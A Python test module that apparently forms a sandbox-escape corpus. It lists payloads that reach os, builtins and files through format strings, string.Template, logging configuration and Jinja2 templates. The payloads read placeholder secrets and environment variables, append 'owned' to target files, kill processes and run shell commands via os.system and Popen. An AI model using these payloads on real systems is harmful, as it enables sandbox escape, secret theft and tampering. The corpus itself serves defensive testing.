"""Attribute access through format strings, templates and other little languages of text."""

from tests.escapes.corpus import LOOT, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("format strings", "attribute chain to globals", (TRY, r"""
class Row:
    def __init__(self):
        self.x = 1
print("{0.__init__.__globals__}".format(Row())[:20000])
print("{0.__class__.__init__.__globals__[__builtins__]}".format(Row())[:20000])
import os
print("{0.__init__.__globals__[os].environ}".format(Row()))
""")),
    Payload("format strings", "format_map with a tricky mapping", (TRY, r"""
class Map(dict):
    def __missing__(self, key):
        print("asked", key)
        return __import__(key)
attempt("os", lambda: "{os.environ}".format_map(Map()))
attempt("sys", lambda: "{sys.modules[os].environ}".format_map(Map()))
attempt("builtins", lambda: "{builtins.open}".format_map(Map()))
""")),
    Payload("format strings", "__format__ as code runner", (LOOT, r"""
class Spec:
    def __format__(self, spec):
        module, _, call = spec.partition(":")
        return repr(eval(call, {"m": __import__(module)}))
attempt("read", lambda: f"{Spec():io:m.open('{{SECRET}}').read()}")
attempt("kill", lambda: format(Spec(), "os:m.kill({{PID}}, 15)"))
attempt("write", lambda: "{:os:m.system('echo owned >> {{TARGET}}')}".format(Spec()))
""")),
    Payload("format strings", "string.Formatter with its own get_field", (LOOT, r"""
import string
class Formatter(string.Formatter):
    def get_value(self, key, args, kwargs):
        return __import__(key)
attempt("environ", lambda: Formatter().format("{os.environ}"))
field, _ = Formatter().get_field("posixpath.os", (), {})
loot(field)
""")),
    Payload("format strings", "operator.attrgetter and methodcaller", (LOOT, r"""
from operator import attrgetter, itemgetter, methodcaller
scope = attrgetter("__init__.__globals__")(type("T", (), {"__init__": lambda self: None}))
box = scope["__builtins__"]
box = box if isinstance(box, dict) else vars(box)
loot(itemgetter("__import__")(box)("os"))
print(methodcaller("read")(itemgetter("open")(box)("{{SECRET}}")))
""")),
    Payload("format strings", "printf style with a mapping that acts", (TRY, r"""
class Files:
    def __getitem__(self, path):
        return open(path).read()
print("%({{SECRET}})s" % Files())
""", r"""
class Write:
    def __getitem__(self, path):
        return open(path, "a").write("owned")
print("%({{TARGET}})s %({{TARGETDIR}}/owned)s" % Write())
""")),
    Payload("format strings", "string.Template pattern and namespace", (TRY, r"""
import string
class Path(string.Template):
    idpattern, braceidpattern = r"(?!)", r"[^}]+"
class Files(dict):
    def __missing__(self, path):
        return open(path).read()
print(Path("${{{SECRET}}}").substitute(Files()))
print(Path("${/proc/{{PID}}/environ}").safe_substitute(Files()))
""")),
    Payload("format strings", "f-string with nested calls and walrus", (TRY, r'''
print(f"{(os := __import__('os'))!r:.0}{os.read(os.open('{{SECRET}}', 0), 999)!r}")
print(f"{(lambda: open('{{TARGET}}', 'a').write('owned'))()}")
print(f"{[c for c in ().__class__.__base__.__subclasses__() if 'wrap_close' in c.__name__]!a}")
''')),
    Payload("format strings", "logging formats and records", (TRY, r"""
import logging, sys
class Leak:
    def __str__(self):
        return open("{{SECRET}}").read()
logging.basicConfig(stream=sys.stdout, style="{", format="{msg.__class__.__str__.__globals__} {message}", force=True)
logging.error(Leak())
""", r"""
import logging.config
attempt("factory", logging.config.dictConfig, {"version": 1, "handlers": {
    "h": {"()": "os.system", "command": "cat {{SECRET}}; echo owned >> {{TARGET}}"}}, "root": {"handlers": ["h"]}})
attempt("file", logging.config.dictConfig, {"version": 1, "handlers": {
    "f": {"class": "logging.FileHandler", "filename": "{{TARGET}}"}}, "root": {"handlers": ["f"], "level": 0}})
attempt("socket", lambda: logging.handlers.SocketHandler("127.0.0.1", {{PORT}}).emit(logging.makeLogRecord({})))
logging.error("owned")
import logging.handlers
attempt("udp", lambda: logging.handlers.DatagramHandler("127.0.0.1", {{UDP}}).emit(logging.makeLogRecord({})))
attempt("syslog", lambda: logging.handlers.SysLogHandler(("127.0.0.1", {{UDP}})).emit(logging.makeLogRecord({})))
""")),
    Payload("format strings", "jinja2 from string to os", (TRY, r"""
import jinja2, jinja2.sandbox
for text in ("{{ cycler.__init__.__globals__.os.popen('cat {{SECRET}}').read() }}",
             "{{ ''.__class__.__mro__[1].__subclasses__() | length }}",
             "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
             "{{ c(['cat', '{{SECRET}}'], stdout=-1).communicate() }}{% endif %}{% endfor %}",
             "{{ lipsum.__globals__['os'].environ }}", "{% include '{{SECRET}}' %}"):
    attempt("jinja", lambda: jinja2.Environment(loader=jinja2.FileSystemLoader("/")).from_string(text).render())
attempt("sandboxed", lambda: jinja2.sandbox.SandboxedEnvironment().from_string("{{ f('{{SECRET}}').read() }}").render(f=open))
""")),
]
